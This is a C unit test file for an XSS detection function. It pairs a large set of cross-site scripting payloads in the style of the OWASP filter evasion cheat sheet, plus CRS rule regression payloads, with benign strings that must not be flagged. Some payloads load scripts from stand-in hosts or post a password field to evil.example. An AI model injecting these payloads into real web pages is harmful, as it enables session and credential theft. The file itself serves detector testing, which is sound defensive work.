/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * lib/inject ww_detect_xss(): attacks in the styles of the OWASP XSS
 * filter evasion cheat sheet (text, attribute and URL contexts, entity,
 * control character, NUL and CSS escape tricks, comment tricks, mutation
 * vectors) must be flagged; text with < and >, prose about JavaScript,
 * harmless markup, URLs, JSON and code must not. The payloads of the CRS
 * regression tests for 941100 and 941101 (v3.3.4), decoded the way the
 * rules' transformations decode them, give the CRS's verdicts. The length
 * bounds the read: a value cut before the attack is clean.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "ww_inject.h"

#define N(a) (sizeof(a) / sizeof((a)[0]))

static const char *const attacks[] = {
	/* script elements */
	"<script>alert(1)</script>",
	"<SCRIPT>alert(1)</SCRIPT>",
	"<ScRiPt>alert(1)</sCrIpT>",
	"<script/x>alert(1)</script>",
	"<script\n>alert(1)</script>",
	"<script src=//evil.example/x.js></script>",
	"<SCRIPT SRC=http://xss.example/xss.js?< B >",
	"<<script>alert(1)//<</script>",
	"</title><script>alert(1)</script>",
	"</textarea><script>alert(1)</script>",
	"<script a=\">\" src=\"http://xss.example/x.js\"></script>",
	"<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)"
	"</x:script>",
	/* event handlers */
	"<img src=x onerror=alert(1)>",
	"<IMG SRC=x ONERROR=alert(1)>",
	"<iMg SrC=x OnErRoR=alert(1)>",
	"<img src=\"x\" onerror=\"alert(1)\"",
	"<img src='x'onerror='alert(1)'>",
	"<img\fsrc=x\fonerror=alert(1)>",
	"<img src=x onerror\n=\nalert(1)>",
	"<img/onerror=alert(1) src=x>",
	"<IMG SRC=# onmouseover=\"alert('xss')\">",
	"<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
	"<svg/onload=alert(1)>",
	"<svg onload=alert(1)//",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<body onload=alert(1)>",
	"<BODY ONLOAD=alert('XSS')>",
	"<body onpageshow=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<input autofocus onfocus=alert(1)>",
	"<select autofocus onfocus=alert(1)>",
	"<textarea autofocus onfocus=alert(1)>",
	"<marquee onstart=alert(1)>XSS</marquee>",
	"<video><source onerror=\"alert(1)\">",
	"<audio src onloadstart=alert(1)>",
	"<div onpointerrawupdate=alert(1)>x</div>",
	"<a onclick=alert(1)>x</a>",
	"<a href=\"#\" onmouseover=\"alert(1)\">x</a>",
	"<div/onmouseover='alert(1)'>x",
	"<isindex type=image src=1 onerror=alert(1)>",
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	"<p onfreshlyinventedevent=alert(1)>",
	/* script URLs */
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
	"<a href=\" javascript:alert(1)\">x</a>",
	"<a href=\"jav\tascript:alert(1)\">x</a>",
	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
	"<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
	"<a href=\"&#106;avascript:alert(1)\">x</a>",
	"<a href=\"javascript&colon;alert(1)\">x</a>",
	"<a href=\"java&Tab;script:alert(1)\">x</a>",
	"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
	"&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;"
	"&#41;>",
	"<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
	"&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108"
	"&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
	"&#0000083&#0000039&#0000041>",
	"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
	"&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
	"<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
	"<IMG SRC=`javascript:alert(\"XSS\")`>",
	"<a href=\"vbscript:msgbox(1)\">x</a>",
	"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
	"\">x</a>",
	"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
	"<BODY BACKGROUND=\"javascript:alert('XSS')\">",
	"<IMG DYNSRC=\"javascript:alert('XSS')\">",
	"<IMG LOWSRC=\"javascript:alert('XSS')\">",
	"<BGSOUND SRC=\"javascript:alert('XSS');\">",
	"<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
	"<form><button formaction=javascript:alert(1)>X</button></form>",
	"<BR SIZE=\"&{alert('XSS')}\">",
	/* documents, plug-ins, page-wide changes */
	"<form action=\"https://evil.example/steal\"><input name=pw></form>",
	"<iframe src=\"https://evil.example/\"></iframe>",
	"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
	"<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
	"<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
	"<object data=\"javascript:alert(1)\">",
	"<OBJECT TYPE=\"text/x-scriptlet\" "
	"DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
	"<embed src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" "
	"type=\"image/svg+xml\">",
	"<applet code=\"x.class\">",
	"<base href=\"//evil.example/\">",
	"<link rel=import href=//evil.example/x.html>",
	"<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=x\">",
	"<meta charset=\"UTF-7\" />+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\">"
	"</B></I></XML>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">"
	"XSS</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	/* CSS */
	"<div style=\"width: expression(alert(1));\">",
	"<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
	"<XSS STYLE=\"behavior: url(xss.htc);\">",
	"<div style=\"-moz-binding:url(//evil.example/x.xml#y)\">",
	"<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
	"<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
	"<div style=\"x:\\65 xpression(alert(1))\">",
	"<div style=\"x:&#101;xpression&lpar;alert(1))\">",
	"<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061"
	"\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c"
	"\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
	"exp/*<A STYLE='no\\xss:noxss(\"*//*\");"
	"xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
	"<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}"
	"</STYLE><UL><LI>XSS</br>",
	"<STYLE>@import'http://xss.example/xss.css';</STYLE>",
	"<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
	"<STYLE>BODY{-moz-binding:url(\"http://xss.example/xssmoz.xml#xss\")}"
	"</STYLE>",
	"<style>*{x:expression(alert(1))}</style>",
	/* comments, processing instructions, raw text */
	"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	"<!-- --!><img src=x onerror=alert(1)>",
	"<!--><img src=x onerror=alert(1)>",
	"<?xml-stylesheet type=\"text/xsl\" href=\"data:,x\"?>",
	"<?import namespace=\"t\" implementation=\"#default#time2\">",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea><!--</textarea><img src=x onerror=alert(1)>-->",
	"<title><!--</title><svg/onload=alert(1)>-->",
	"<!--</textarea><svg/onload=alert(1)>-->",
	"</xmp><!--</style><svg/onload=alert(1)>-->",
	"<![CDATA[><img src=x onerror=alert(1)//]]>",
	"<? foo=\"><script>alert(1)</script>\">",
	"</ foo=\"><script>alert(1)</script>\">",
	"<% foo><x foo=\"%><script>alert(1)</script>\">",
	"<!--[if<img src=x onerror=alert(1)//]> -->",
	/* breaking out of the page's attribute value */
	"\"><script>alert(1)</script>",
	"'><script>alert(1)</script>",
	"\"><img src=x onerror=alert(1)>",
	"\" onmouseover=\"alert(1)",
	"'onmouseover='alert(1)",
	"' onmouseover='alert(1)'",
	"\" autofocus onfocus=\"x",
	"\"/onmouseover=\"alert(1)",
	"x onmouseover=alert(1)",
	"x style=x:expression(alert(1))",
	"x\" style=\"background:url(javascript:alert(1))",
	"x\" href=\"javascript:alert(1)",
	"' src='jav&#x09;ascript:alert(1)",
	"\" onfocus=alert(1) autofocus x=\"",
	/* a URL on its own (a parameter written into an href) */
	"javascript:alert(1)",
	"JaVaScRiPt:alert(document.cookie)",
	" javascript:alert(1)",
	"&#106;avascript:alert(1)",
	"jav&#x09;ascript:alert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"vbscript:msgbox(\"x\")",
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:,alert(1)",
	"data:application/xhtml+xml,<x/>",
	"ja&tab;vascript:alert(1)",
	"v&newline;b&tab;script&colon;msgbox(1)",
};

/* Attacks with NUL bytes: IE dropped NUL inside names and schemes. */
static const struct {
	const char *s;
	size_t len;
} nul_attacks[] = {
#define WITH_NUL(lit)                \
	{                            \
		lit, sizeof(lit) - 1 \
	}
	WITH_NUL("<scr\0ipt>alert(1)</script>"),
	WITH_NUL("<img src=x on\0error=alert(1)>"),
	WITH_NUL("<a href=\"java\0script:alert(1)\">x</a>"),
	WITH_NUL("java\0script:alert(1)"),
	WITH_NUL("<img src=x\0 onerror=alert(1)>"),
	WITH_NUL("\0<script>alert(1)</script>"),
#undef WITH_NUL
};

static const char *const benign[] = {
	/* < and > in text, comparisons, code */
	"a < b",
	"x<3 y>2",
	"I <3 you",
	"<3",
	"I <3 <3 you",
	"a<b",
	"a > b",
	"5 > 3 and 2 < 4",
	"a <= b",
	"a >= b",
	"a <> b",
	"1<2<3",
	"x < y > z",
	"<<<>>>",
	"<>",
	"< >",
	"</>",
	"<!>",
	"<?>",
	"<x",
	"<a",
	"<a href",
	"<-- arrow",
	"-->",
	"<= 5",
	"cost < $5 & tax > 1%",
	"html > body > div",
	"if (a<b && c>d)",
	"for (i=0;i<n;i++) sum+=x[i];",
	"x = y < z ? 1 : 2",
	"a->b",
	"vector<int> v;",
	"std::map<std::string, int> m;",
	"List<String> list = new ArrayList<>();",
	"List<object> items",
	"Map<String, Object> m",
	"Optional<Link> next",
	"Array<Comment>",
	"Promise<void>",
	"template<typename T> T max(T a, T b);",
	"SELECT * FROM t WHERE a < 5 AND b > 2",
	"C++ < Rust?",
	/* numbers, prices, addresses, URLs */
	"price: $19.99",
	"19.99",
	"100%",
	"50% off!",
	"2 + 2 = 4",
	"x^2 + y^2 = z^2",
	"f(x) = 3x + 1",
	"E = mc^2",
	"sin(x) < 1",
	"time: 10:30",
	"john.doe@example.com",
	"mailto:john@example.com",
	"mailto:a@b.example?subject=hi",
	"tel:+1-555-0100",
	"urn:isbn:0451450523",
	"about:blank",
	"http://example.com",
	"https://example.com/path?q=1&b=2",
	"https://example.com/?redirect=/home",
	"https://www.youtube.com/watch?v=dQw4w9WgXcQ",
	"http://localhost:8080/",
	"ftp://files.example.com/pub",
	"//cdn.example.com/lib.js",
	"/search?q=onload",
	"../relative/path",
	"#anchor",
	"C:\\Program Files\\App",
	"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAY=",
	"data: 12 items",
	"Data: none",
	/* markdown */
	"**bold** and _italic_",
	"# Title\n\n- item one\n- item two",
	"[link](https://example.com)",
	"> quoted text",
	"`code` here",
	"```js\nconsole.log(1)\n```",
	/* harmless markup */
	"<b>bold</b>",
	"<i>",
	"<p>hello</p>",
	"<br>",
	"<br/>",
	"<hr />",
	"The <em>best</em> option",
	"a <b>bold</b> move",
	"<a href=\"https://example.com\">link</a>",
	"<a href=\"mailto:bob@example.com\">mail</a>",
	"<a href=\"#top\">top</a>",
	"<a href='/about'>about</a>",
	"<img src=\"cat.png\" alt=\"cat\">",
	"<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
	"<span style=\"color:red\">red</span>",
	"<div style=\"background:url(bg.png)\">x</div>",
	"<p class=\"note\">Note</p>",
	"<ul><li>one</li><li>two</li></ul>",
	"<table><tr><td>1</td></tr></table>",
	"<code>a &lt; b</code>",
	"<h1>Title</h1>",
	"<blockquote>quote</blockquote>",
	"<input type=\"text\" name=\"q\" value=\"search\">",
	"<label for=\"email\">Email</label>",
	"<select><option value=\"1\">One</option></select>",
	"<textarea>hello</textarea>",
	"<meta charset=\"utf-8\">",
	"<meta name=\"viewport\" content=\"width=device-width\">",
	"<!-- old: <b>bold</b> -->",
	"<!-- a comment -->",
	"<!DOCTYPE html>",
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to></note>",
	"<%= name %>",
	"{{ user.name }}",
	"${HOME}",
	/* JSON and headers */
	"{\"name\":\"O'Brien\",\"tags\":[\"a\",\"b\"]}",
	"{\"a\":1,\"b\":[1,2,3],\"c\":{\"d\":null}}",
	"[1, 2, 3]",
	"{\"online\": true, \"count\": 3}",
	"{\"html\": \"<b>x</b>\"}",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	"(KHTML, like Gecko) Chrome/120.0 Safari/537.36",
	"text/html; charset=utf-8",
	"application/json",
	"en-US,en;q=0.9",
	"gzip, deflate, br",
	"session=abc123; theme=dark",
	"width=100 height=200",
	"key=value&other=1",
	"a=1; b=2",
	"style=bold",
	"color: red; font-size: 12px",
	"background: url(image.png)",
	"font-family: 'Helvetica Neue', Arial",
	/* prose about the web */
	"onion",
	"online",
	"onions and garlic",
	"She is online now",
	"status online=yes",
	"one=1 two=2 only=3",
	"onerror handling in JS",
	"the onload event fires when the page loads",
	"use onclick to handle clicks",
	"set the onmouseover attribute",
	"javascript tutorial",
	"Learn JavaScript in 10 days",
	"script writer",
	"scripting language",
	"the script was great",
	"the iframe element embeds a page",
	"svg icons and math homework",
	"meta data about the base rate",
	"the expression (a+b) is positive",
	"It's a \"quoted\" word",
	"He said \"hi\" and left",
	"Don't stop",
	"rock 'n' roll",
	"O'Reilly",
	"5'11\"",
	"caf\xc3\xa9 cr\xc3\xa8me br\xc3\xbbl\xc3\xa9"
	"e",
	"\xff\xfe\x80 binary \x01\x02",
};

/*
 * CRS v3.3.4 regression tests for 941100 and 941101 (REQUEST-941-
 * APPLICATION-ATTACK-XSS/9411{00,01}.yaml): every value of each request
 * that the CRS would hand to a rule (file name, argument names and values,
 * User-Agent, Referer), decoded by the rules' transformations
 * (t:urlDecodeUni, t:htmlEntityDecode, t:jsDecode, t:cssDecode,
 * t:removeNulls). 941100 reads ARGS, ARGS_NAMES and User-Agent, 941101
 * Referer: the tests' verdicts are those of the values marked true, and
 * 941100-5FN is clean for 941100 only because its payload is in Referer,
 * which 941100 does not read.
 */
static const struct {
	const char *test;
	const char *var;
	const char *value;
	bool xss;
} crs[] = {
	{"941100-1", "REQUEST_FILENAME", "/demo/xss/xml/vuln.xml.php", false},
	{"941100-1", "ARGS_NAMES", "input", false},
	{"941100-1", "ARGS",
	 "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout("
	 "\"top.frame2.location=\"javascript:(function () {var x = d"
	 "ocument.createElement(\"script\");x.src = \"//sdl.me/popup"
	 ".js?//\";document.childNodes[0].appendChild(x);}());\"\",1"
	 "000)</script>",
	 true},
	{"941100-1", "ARGS_NAMES", "//", false},
	{"941100-1", "REQUEST_HEADERS:User-Agent", "ModSecurity CRS 3 Tests",
	 false},
	{"941100-2", "REQUEST_FILENAME", "/char_test", false},
	{"941100-2", "ARGS_NAMES", "mime", false},
	{"941100-2", "ARGS", "text/xml", false},
	{"941100-2", "ARGS_NAMES", "body", false},
	{"941100-2", "ARGS",
	 "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"d"
	 "ata:,alert(1)\" />",
	 true},
	{"941100-2", "REQUEST_HEADERS:User-Agent", "ModSecurity CRS 3 Tests",
	 false},
	{"941100-3", "REQUEST_FILENAME", "/", false},
	{"941100-3", "REQUEST_HEADERS:User-Agent",
	 "/char_test?mime=text/xml&body=<x:script xmlns:x=\"http://w"
	 "ww.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
	 true},
	{"941100-4", "REQUEST_FILENAME", "/", false},
	{"941100-4", "REQUEST_HEADERS:User-Agent", "ModSecurity CRS 3 Tests",
	 false},
	{"941100-4", "REQUEST_HEADERS:Referer", "http://www.cnn.com", false},
	{"941100-5FN", "REQUEST_FILENAME", "/", false},
	{"941100-5FN", "REQUEST_HEADERS:User-Agent", "ModSecurity CRS 3 Tests",
	 false},
	{"941100-5FN", "REQUEST_HEADERS:Referer",
	 "/demo/xss/xml/vuln.xml.php?input=<script xmlns=\"http://ww"
	 "w.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\"j"
	 "avascript:(function () {var x = document.createElement(\"s"
	 "cript\");x.src = \"//sdl.me/popup.js?//\";document.childNo"
	 "des[0].appendChild(x);}());\"\",1000)</script>&//",
	 true},
	{"941101-1", "REQUEST_FILENAME", "/", false},
	{"941101-1", "REQUEST_HEADERS:User-Agent", "ModSecurity CRS 3 Tests",
	 false},
	{"941101-1", "REQUEST_HEADERS:Referer",
	 "www.github.com<script><img><iframe>", true},
};

static void test_attacks(void **state)
{
	unsigned int i, missed = 0;

	(void)state;
	for (i = 0; i < N(attacks); i++) {
		if (!ww_detect_xss(attacks[i], strlen(attacks[i]))) {
			print_message("missed: %s\n", attacks[i]);
			missed++;
		}
	}
	for (i = 0; i < N(nul_attacks); i++) {
		if (!ww_detect_xss(nul_attacks[i].s, nul_attacks[i].len)) {
			print_message("missed NUL case %u\n", i);
			missed++;
		}
	}
	assert_true(N(attacks) + N(nul_attacks) >= 60);
	assert_int_equal(missed, 0);
}

static void test_benign(void **state)
{
	unsigned int i, flagged = 0;

	(void)state;
	for (i = 0; i < N(benign); i++) {
		if (ww_detect_xss(benign[i], strlen(benign[i]))) {
			print_message("flagged: %s\n", benign[i]);
			flagged++;
		}
	}
	assert_true(N(benign) >= 100);
	assert_int_equal(flagged, 0);
}

static void test_crs_941100_941101(void **state)
{
	unsigned int i, wrong = 0;

	(void)state;
	for (i = 0; i < N(crs); i++) {
		if (ww_detect_xss(crs[i].value, strlen(crs[i].value)) !=
		    crs[i].xss) {
			print_message("%s %s: %s\n", crs[i].test, crs[i].var,
				      crs[i].value);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

/* Only @len bytes are read: a prefix that stops before the attack is
 * clean, whatever follows it in memory. */
static void test_length_bounds_the_read(void **state)
{
	static const char *const cut[] = {
		"<scr|ipt>alert(1)</script>",
		"<img src=x on|error=alert(1)>",
		"<img src=x onerror|=alert(1)>",
		"<a href=\"java|script:alert(1)\">",
		"<a href=\"https://example.com/|\" onclick=\"alert(1)\">",
		"javascrip|t:alert(1)",
		"hello|<script>alert(1)</script>",
		"<div style=\"x:expressio|n(alert(1))\">",
	};
	unsigned int i;

	(void)state;
	for (i = 0; i < N(cut); i++) {
		char buf[128];
		size_t at = (size_t)(strchr(cut[i], '|') - cut[i]);

		snprintf(buf, sizeof(buf), "%.*s%s", (int)at, cut[i],
			 cut[i] + at + 1);
		if (!ww_detect_xss(buf, strlen(buf)))
			fail_msg("whole value not flagged: %s", buf);
		if (ww_detect_xss(buf, at))
			fail_msg("flagged from past the length: %.*s", (int)at,
				 buf);
	}
	assert_false(ww_detect_xss(NULL, 0));
	assert_false(ww_detect_xss("<script>", 0));
}

/* An attack stays an attack behind text and in any case; the attribute
 * breakouts stay one behind a plain value. */
static void test_prefixes_and_case(void **state)
{
	static const char *const prefix[] = {"hello ", "x", "a < b ", "42"};
	unsigned int i, k;

	(void)state;
	for (i = 0; i < N(attacks); i++) {
		const char *a = attacks[i];
		char buf[1024];
		size_t l = strlen(a), j;

		/* the bare-URL cases are only attacks at the start */
		if (a[0] != '<' && a[0] != '"' && a[0] != '\'')
			continue;
		for (k = 0; k < N(prefix); k++) {
			snprintf(buf, sizeof(buf), "%s%s", prefix[k], a);
			if (!ww_detect_xss(buf, strlen(buf)))
				fail_msg("missed behind a prefix: %s", buf);
		}
		assert_true(l < sizeof(buf));
		for (j = 0; j <= l; j++)
			buf[j] = (char)((a[j] >= 'a' && a[j] <= 'z')
						? a[j] - 'a' + 'A'
						: a[j]);
		if (!ww_detect_xss(buf, l))
			fail_msg("missed in upper case: %s", buf);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_crs_941100_941101),
		cmocka_unit_test(test_length_bounds_the_read),
		cmocka_unit_test(test_prefixes_and_case),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
